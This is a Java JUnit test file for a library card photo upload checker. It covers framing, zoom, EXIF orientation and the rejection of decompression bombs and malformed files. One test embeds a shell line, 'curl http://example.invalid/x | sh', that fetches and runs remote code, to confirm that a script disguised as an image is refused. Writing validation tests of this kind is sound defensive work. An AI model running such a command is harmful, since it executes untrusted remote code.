package be.uliege.library.registration.card;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import be.uliege.library.registration.card.PhotoImages.Frame;
import be.uliege.library.registration.card.PhotoImages.Upload;
import be.uliege.library.registration.card.PhotoRejectedException.Reason;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** R-CARD-1: an uploaded or captured photo is checked by its content and framed at card resolution. */
class PhotoImagesTest {

    private static final Color RED = new Color(220, 30, 30);
    private static final Color GREEN = new Color(30, 180, 30);
    private static final Color BLUE = new Color(30, 30, 220);
    private static final Color YELLOW = new Color(230, 220, 30);
    private static final Color MAGENTA = new Color(200, 30, 200);

    // --- accepted photos ---

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"jpeg", "png"})
    @DisplayName(
            "R-CARD-1: a JPEG or PNG photo is accepted and framed to exactly 300 × 375, a JPEG in sRGB without alpha or metadata")
    void normalPhoto(String format) {
        Upload upload = PhotoImages.check(encode(quadrants(1600, 1200), format));

        assertThat(upload.format()).isEqualTo(format);
        assertThat(upload.width()).isEqualTo(1600);
        assertThat(upload.height()).isEqualTo(1200);
        assertThat(upload.image().getWidth()).isEqualTo(1600);

        byte[] framed = PhotoImages.frame(upload.image(), Frame.CENTRED);

        assertCardJpeg(framed);
        BufferedImage card = decode(framed);
        assertColour(card, 20, 20, RED);
        assertColour(card, 280, 20, GREEN);
        assertColour(card, 20, 355, BLUE);
        assertColour(card, 280, 355, YELLOW);
    }

    @Test
    @DisplayName("R-CARD-1: the horizontal slider moves the frame across the image")
    void horizontalSlider() {
        BufferedImage image = quadrants(1600, 1200); // the largest 4:5 frame is 960 × 1200: it can move sideways

        BufferedImage left = decode(PhotoImages.frame(image, new Frame(0, 0.5, 1)));
        BufferedImage right = decode(PhotoImages.frame(image, new Frame(1, 0.5, 1)));

        assertColour(left, 150, 20, RED); // x 480 of 1600
        assertColour(left, 200, 20, RED); // x 640; x 960 (green), were the frame centred
        assertColour(right, 150, 20, GREEN); // x 1120
        assertColour(right, 100, 20, GREEN); // x 960 would be red, were the frame centred
    }

    @Test
    @DisplayName("R-CARD-1: the vertical slider moves the frame up and down (zoomed in, so that it can move)")
    void verticalSlider() {
        BufferedImage image = quadrants(1600, 1200);

        BufferedImage top = decode(PhotoImages.frame(image, new Frame(0, 0, 2))); // 480 × 600 from the top left
        BufferedImage bottom = decode(PhotoImages.frame(image, new Frame(0, 1, 2)));
        BufferedImage bottomRight = decode(PhotoImages.frame(image, new Frame(1, 1, 2)));

        assertColour(top, 150, 187, RED);
        assertColour(top, 290, 365, RED);
        assertColour(bottom, 150, 187, BLUE);
        assertColour(bottom, 10, 10, BLUE);
        assertColour(bottomRight, 150, 187, YELLOW);
    }

    @Test
    @DisplayName("R-CARD-1: zoom 2 shows a region half as wide: the same object twice as large")
    void zoom() {
        BufferedImage image = quadrants(1600, 1200);
        fill(image, MAGENTA, 600, 350, 400, 500); // centred, 400 wide

        BufferedImage whole = decode(PhotoImages.frame(image, Frame.CENTRED));
        BufferedImage zoomed = decode(PhotoImages.frame(image, new Frame(0.5, 0.5, 2)));

        assertColour(whole, 50, 60, RED);
        assertColour(zoomed, 50, 60, MAGENTA);
        int wholeWidth = widthOf(whole, MAGENTA, 187);
        int zoomedWidth = widthOf(zoomed, MAGENTA, 187);
        assertThat(wholeWidth).isBetween(120, 130); // 400 × 300/960
        assertThat(zoomedWidth).isBetween(245, 255); // 400 × 300/480
    }

    @Test
    @DisplayName("R-CARD-1: values out of range are clamped: the frame stays inside the image")
    void clamped() {
        BufferedImage image = quadrants(1600, 1200);

        assertThat(pixels(PhotoImages.frame(image, new Frame(-3, 7, 0.2))))
                .isEqualTo(pixels(PhotoImages.frame(image, new Frame(0, 1, 1))));
        assertThat(pixels(PhotoImages.frame(image, new Frame(2, -1, 50))))
                .isEqualTo(pixels(PhotoImages.frame(image, new Frame(1, 0, PhotoImages.MAX_ZOOM))));
        assertThat(pixels(PhotoImages.frame(image, new Frame(Double.NaN, Double.POSITIVE_INFINITY, Double.NaN))))
                .isEqualTo(pixels(PhotoImages.frame(image, new Frame(0.5, 1, 1))));
        assertCardJpeg(PhotoImages.frame(image, new Frame(1, 1, PhotoImages.MAX_ZOOM)));
    }

    @Test
    @DisplayName("R-CARD-1: a PNG's transparency comes out on white")
    void transparencyOnWhite() {
        var image = new BufferedImage(400, 500, BufferedImage.TYPE_INT_ARGB); // transparent
        fill(image, RED, 0, 0, 80, 100);
        Upload upload = PhotoImages.check(encode(image, "png"));

        byte[] framed = PhotoImages.frame(upload.image(), Frame.CENTRED);

        assertCardJpeg(framed);
        BufferedImage card = decode(framed);
        assertColour(card, 150, 187, Color.WHITE);
        assertColour(card, 290, 365, Color.WHITE);
        assertColour(card, 20, 20, RED);
    }

    @Test
    @DisplayName("R-CARD-1: a fine pattern scales down to grey, not to moiré (no aliasing)")
    void noAliasing() {
        var image = new BufferedImage(4000, 3000, BufferedImage.TYPE_INT_RGB);
        for (int y = 0; y < 3000; y++) {
            for (int x = 0; x < 4000; x++) {
                image.setRGB(x, y, (x + y) % 2 == 0 ? 0xFFFFFF : 0x000000);
            }
        }

        BufferedImage card = decode(PhotoImages.frame(image, Frame.CENTRED));

        for (int y = 0; y < card.getHeight(); y++) {
            for (int x = 0; x < card.getWidth(); x++) {
                assertThat(card.getRGB(x, y) & 0xFF).as("(%d, %d)", x, y).isBetween(108, 148);
            }
        }
    }

    @Test
    @DisplayName("R-CARD-1: the camera's snapshot (a 1280 × 720 or 640 × 480 canvas JPEG) is framed centred")
    void camera() {
        assertCardJpeg(PhotoImages.fromCamera(encode(quadrants(1280, 720), "jpeg")));
        byte[] framed = PhotoImages.fromCamera(encode(quadrants(640, 480), "jpeg"));

        assertCardJpeg(framed);
        BufferedImage card = decode(framed);
        assertColour(card, 20, 20, RED);
        assertColour(card, 280, 355, YELLOW);
    }

    @ParameterizedTest(name = "orientation {0}")
    @CsvSource(textBlock = """
            1, RED,    GREEN,  BLUE,   YELLOW
            2, GREEN,  RED,    YELLOW, BLUE
            3, YELLOW, BLUE,   GREEN,  RED
            4, BLUE,   YELLOW, RED,    GREEN
            5, RED,    BLUE,   GREEN,  YELLOW
            6, BLUE,   RED,    YELLOW, GREEN
            7, YELLOW, GREEN,  BLUE,   RED
            8, GREEN,  YELLOW, RED,    BLUE
            """)
    @DisplayName("R-CARD-1: a phone's JPEG is turned upright by its EXIF orientation")
    void exifOrientation(int orientation, String topLeft, String topRight, String bottomLeft, String bottomRight) {
        byte[] jpeg = withExifOrientation(encode(quadrants(300, 200), "jpeg"), orientation, orientation % 2 == 0);

        Upload upload = PhotoImages.check(jpeg);

        boolean sideways = orientation >= 5;
        assertThat(upload.width()).isEqualTo(sideways ? 200 : 300);
        assertThat(upload.height()).isEqualTo(sideways ? 300 : 200);
        assertCorners(upload.image(), topLeft, topRight, bottomLeft, bottomRight);
        // a layout other than the JPEG reader's is turned by a copy
        assertCorners(
                ExifOrientation.apply(quadrants(300, 200), orientation), topLeft, topRight, bottomLeft, bottomRight);
    }

    @Test
    @DisplayName("R-CARD-1: a grey JPEG is turned upright too")
    void exifOrientationGrey() {
        var grey = new BufferedImage(300, 200, BufferedImage.TYPE_BYTE_GRAY);
        fill(grey, Color.WHITE, 0, 0, 150, 100); // white top left, black elsewhere

        Upload upload = PhotoImages.check(withExifOrientation(encode(grey, "jpeg"), 6, false));

        assertThat(upload.image().getType()).isEqualTo(BufferedImage.TYPE_BYTE_GRAY);
        assertThat(upload.width()).isEqualTo(200);
        assertColour(upload.image(), 190, 10, Color.WHITE);
        assertColour(upload.image(), 10, 10, Color.BLACK);
        assertColour(upload.image(), 190, 290, Color.BLACK);
    }

    private static void assertCorners(
            BufferedImage image, String topLeft, String topRight, String bottomLeft, String bottomRight) {
        int right = image.getWidth() - 10;
        int bottom = image.getHeight() - 10;
        assertColour(image, 10, 10, named(topLeft));
        assertColour(image, right, 10, named(topRight));
        assertColour(image, 10, bottom, named(bottomLeft));
        assertColour(image, right, bottom, named(bottomRight));
    }

    @Test
    @DisplayName("R-CARD-1: a 12-megapixel photo is checked and framed (the time is printed, not asserted)")
    void twelveMegapixels() {
        byte[] jpeg = encode(photoLike(4000, 3000), "jpeg");

        long start = System.nanoTime();
        Upload upload = PhotoImages.check(jpeg);
        long checked = System.nanoTime();
        byte[] framed = PhotoImages.frame(upload.image(), new Frame(0.4, 0.5, 1.3));
        long done = System.nanoTime();

        assertCardJpeg(framed);
        System.out.printf(
                "12 MP JPEG (%d KB): check %d ms, frame %d ms%n",
                jpeg.length / 1024, (checked - start) / 1_000_000, (done - checked) / 1_000_000);
    }

    // --- hostile uploads ---

    @Test
    @DisplayName("R-CARD-1: an empty file is refused")
    void empty() {
        assertRejected(new byte[0], Reason.EMPTY);
    }

    @Test
    @DisplayName("R-CARD-1: a file over 10 MB is refused before anything is read")
    void tooLargeFile() {
        assertRejected(new byte[11 * 1024 * 1024], Reason.TOO_LARGE_FILE);
        byte[] jpegHeaded = new byte[PhotoImages.MAX_BYTES + 1];
        jpegHeaded[0] = (byte) 0xFF;
        jpegHeaded[1] = (byte) 0xD8;
        jpegHeaded[2] = (byte) 0xFF;
        assertRejected(jpegHeaded, Reason.TOO_LARGE_FILE);
    }

    @Test
    @DisplayName("R-CARD-1: a script behind a PNG or JPEG signature is not an image")
    void scriptWithImageSignature() {
        byte[] script = "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);

        assertRejected(
                concat(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}, script), Reason.NOT_AN_IMAGE);
        assertRejected(concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF}, script), Reason.NOT_AN_IMAGE);
        assertRejected(script, Reason.NOT_AN_IMAGE);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"gif", "bmp"})
    @DisplayName("R-CARD-1: only JPEG and PNG are accepted: a GIF or BMP is refused, whatever it is called")
    void otherFormats(String format) {
        assertRejected(encode(quadrants(400, 500), format), Reason.NOT_AN_IMAGE);
    }

    @Test
    @DisplayName(
            "R-CARD-1: a PNG declaring 50,000 × 50,000 (a decompression bomb) is refused from its header, without decoding")
    void pngBomb() {
        // decoding would take 10 GB; a tiny IDAT: were it decoded, it would fail as UNREADABLE, not TOO_MANY_PIXELS
        assertRejected(png(50_000, 50_000, 8, 2), Reason.TOO_MANY_PIXELS);
    }

    @Test
    @DisplayName("R-CARD-1: a side over 12,000 px is refused, even below 40 megapixels")
    void tooLongSide() {
        assertRejected(png(13_000, 200, 8, 2), Reason.TOO_MANY_PIXELS);
    }

    @Test
    @DisplayName(
            "R-CARD-1: a 16-bit RGBA PNG whose decoding would take over 160 MB is refused, even below 40 megapixels")
    void tooMuchMemory() {
        assertRejected(png(5_000, 5_000, 16, 6), Reason.TOO_MANY_PIXELS); // 25 MP × 8 bytes
    }

    @Test
    @DisplayName("R-CARD-1: a JPEG whose header declares 8000 × 7000 (56 megapixels) is refused by its dimensions")
    void jpegDeclaringTooManyPixels() {
        byte[] jpeg = encode(quadrants(160, 200), "jpeg");
        int sof = sof0(jpeg);
        ByteBuffer.wrap(jpeg, sof + 5, 4).putShort((short) 7000).putShort((short) 8000); // height, width

        assertRejected(jpeg, Reason.TOO_MANY_PIXELS);
    }

    @Test
    @DisplayName("R-CARD-1: a truncated JPEG or PNG is refused, not shown half grey")
    void truncated() {
        byte[] jpeg = encode(photoLike(800, 1000), "jpeg");
        byte[] png = encode(photoLike(800, 1000), "png");

        assertRejected(Arrays.copyOf(jpeg, jpeg.length / 2), Reason.UNREADABLE);
        assertRejected(Arrays.copyOf(png, png.length / 2), Reason.UNREADABLE);
    }

    @Test
    @DisplayName("R-CARD-1: a JPEG whose pixel data are corrupt is refused")
    void corruptJpeg() {
        byte[] jpeg = encode(photoLike(800, 1000), "jpeg");
        Arrays.fill(jpeg, jpeg.length / 2, jpeg.length / 2 + 2000, (byte) 0xFF);

        assertRejected(jpeg, Reason.UNREADABLE);
    }

    @Test
    @DisplayName("R-CARD-1: an image below 120 × 150 is too small for a card")
    void tooSmall() {
        assertRejected(encode(quadrants(100, 100), "png"), Reason.TOO_SMALL);
        assertRejected(encode(quadrants(100, 100), "jpeg"), Reason.TOO_SMALL);
        assertRejected(encode(quadrants(200, 149), "jpeg"), Reason.TOO_SMALL);
        assertThat(PhotoImages.check(encode(quadrants(120, 150), "png")).width())
                .isEqualTo(120);
    }

    @Test
    @DisplayName("R-CARD-1: each reason is the key of a translated message")
    void messageKeys() {
        assertThat(Arrays.stream(Reason.values()).map(Reason::key))
                .containsExactly(
                        "photo.rejected.empty",
                        "photo.rejected.too-large-file",
                        "photo.rejected.not-an-image",
                        "photo.rejected.unreadable",
                        "photo.rejected.too-many-pixels",
                        "photo.rejected.too-small");
    }

    // --- helpers ---

    private static void assertRejected(byte[] bytes, Reason reason) {
        assertThatThrownBy(() -> PhotoImages.check(bytes))
                .isInstanceOfSatisfying(
                        PhotoRejectedException.class,
                        e -> assertThat(e.reason()).isEqualTo(reason));
    }

    private static void assertCardJpeg(byte[] framed) {
        assertThat(framed).startsWith(0xFF, 0xD8, 0xFF);
        BufferedImage card = decode(framed);
        assertThat(card.getWidth()).isEqualTo(CardPhoto.WIDTH);
        assertThat(card.getHeight()).isEqualTo(CardPhoto.HEIGHT);
        assertThat(card.getColorModel().hasAlpha()).isFalse();
        assertThat(card.getColorModel().getColorSpace().isCS_sRGB()).isTrue();
        assertThat(segments(framed))
                .as("markers before the pixels")
                .allMatch(marker -> marker < 0xE1 || marker > 0xEF)
                .doesNotContain(0xFE); // no EXIF, ICC profile or comment: at most JFIF's APP0
    }

    private static void assertColour(BufferedImage image, int x, int y, Color expected) {
        var actual = new Color(image.getRGB(x, y));
        assertThat(Math.abs(actual.getRed() - expected.getRed())
                        + Math.abs(actual.getGreen() - expected.getGreen())
                        + Math.abs(actual.getBlue() - expected.getBlue()))
                .as("(%d, %d) is %s, expected %s", x, y, actual, expected)
                .isLessThan(60);
    }

    private static Color named(String name) {
        return switch (name) {
            case "RED" -> RED;
            case "GREEN" -> GREEN;
            case "BLUE" -> BLUE;
            case "YELLOW" -> YELLOW;
            default -> throw new IllegalArgumentException(name);
        };
    }

    private static int widthOf(BufferedImage image, Color colour, int y) {
        int count = 0;
        for (int x = 0; x < image.getWidth(); x++) {
            var actual = new Color(image.getRGB(x, y));
            if (Math.abs(actual.getRed() - colour.getRed())
                            + Math.abs(actual.getGreen() - colour.getGreen())
                            + Math.abs(actual.getBlue() - colour.getBlue())
                    < 60) {
                count++;
            }
        }
        return count;
    }

    /** Four coloured quadrants: red, green above; blue, yellow below. */
    private static BufferedImage quadrants(int width, int height) {
        var image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        fill(image, RED, 0, 0, width / 2, height / 2);
        fill(image, GREEN, width / 2, 0, width - width / 2, height / 2);
        fill(image, BLUE, 0, height / 2, width / 2, height - height / 2);
        fill(image, YELLOW, width / 2, height / 2, width - width / 2, height - height / 2);
        return image;
    }

    /** Gradients, shapes and noise: compresses like a photo, not like flat colour. */
    private static BufferedImage photoLike(int width, int height) {
        var image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        var random = new Random(42);
        for (int y = 0; y < height; y++) {
            for (int x = 0; x < width; x++) {
                int n = random.nextInt(24);
                image.setRGB(
                        x,
                        y,
                        new Color(
                                        (x * 200 / width + n) & 0xFF,
                                        (y * 200 / height + n) & 0xFF,
                                        ((x + y) % 256 / 2 + n) & 0xFF)
                                .getRGB());
            }
        }
        Graphics2D g = image.createGraphics();
        g.setColor(MAGENTA);
        g.fillOval(width / 4, height / 4, width / 2, height / 2);
        g.dispose();
        return image;
    }

    private static void fill(BufferedImage image, Color colour, int x, int y, int width, int height) {
        Graphics2D g = image.createGraphics();
        g.setColor(colour);
        g.fillRect(x, y, width, height);
        g.dispose();
    }

    private static byte[] encode(BufferedImage image, String format) {
        var out = new ByteArrayOutputStream();
        try {
            assertThat(ImageIO.write(image, format, out))
                    .as("a %s writer", format)
                    .isTrue();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static BufferedImage decode(byte[] trusted) {
        try {
            return ImageIO.read(new ByteArrayInputStream(trusted));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static int[] pixels(byte[] jpeg) {
        BufferedImage image = decode(jpeg);
        return image.getRGB(0, 0, image.getWidth(), image.getHeight(), null, 0, image.getWidth());
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }

    /** A valid PNG's chunks with the given header, and an IDAT of a few deflated bytes. */
    private static byte[] png(int width, int height, int bitDepth, int colourType) {
        var out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        chunk(
                out,
                "IHDR",
                ByteBuffer.allocate(13)
                        .putInt(width)
                        .putInt(height)
                        .put((byte) bitDepth)
                        .put((byte) colourType)
                        .put((byte) 0)
                        .put((byte) 0)
                        .put((byte) 0)
                        .array());
        var deflater = new Deflater();
        deflater.setInput(new byte[64]);
        deflater.finish();
        byte[] idat = new byte[128];
        int length = deflater.deflate(idat);
        chunk(out, "IDAT", Arrays.copyOf(idat, length));
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
        var crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        out.writeBytes(typeBytes);
        out.writeBytes(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    /** The markers of a JPEG's segments before its first scan. */
    private static List<Integer> segments(byte[] jpeg) {
        var markers = new ArrayList<Integer>();
        int i = 2;
        while (i + 4 <= jpeg.length && (jpeg[i + 1] & 0xFF) != 0xDA) {
            markers.add(jpeg[i + 1] & 0xFF);
            i += 2 + ((jpeg[i + 2] & 0xFF) << 8 | jpeg[i + 3] & 0xFF);
        }
        return markers;
    }

    private static int sof0(byte[] jpeg) {
        int i = 2;
        while ((jpeg[i + 1] & 0xFF) != 0xC0) {
            i += 2 + ((jpeg[i + 2] & 0xFF) << 8 | jpeg[i + 3] & 0xFF);
        }
        return i;
    }

    /**
     * The JPEG with an EXIF segment carrying the orientation, as a phone writes it: right after
     * the start of image, in place of JFIF's APP0.
     */
    private static byte[] withExifOrientation(byte[] jpeg, int orientation, boolean littleEndian) {
        int app0Length = (jpeg[4] & 0xFF) << 8 | jpeg[5] & 0xFF;
        assertThat(jpeg[3] & 0xFF).isEqualTo(0xE0);
        var tiff = ByteBuffer.allocate(26).order(littleEndian ? ByteOrder.LITTLE_ENDIAN : ByteOrder.BIG_ENDIAN);
        tiff.put(littleEndian ? (byte) 'I' : (byte) 'M')
                .put(littleEndian ? (byte) 'I' : (byte) 'M')
                .putShort((short) 42)
                .putInt(8)
                .putShort((short) 1) // IFD0 at 8, one entry
                .putShort((short) 0x0112)
                .putShort((short) 3)
                .putInt(1)
                .putShort((short) orientation)
                .putShort((short) 0)
                .putInt(0); // no next IFD
        var out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE1});
        out.writeBytes(ByteBuffer.allocate(2).putShort((short) (2 + 6 + 26)).array());
        out.writeBytes("Exif\0\0".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(tiff.array());
        out.write(jpeg, 4 + app0Length, jpeg.length - 4 - app0Length);
        return out.toByteArray();
    }
}
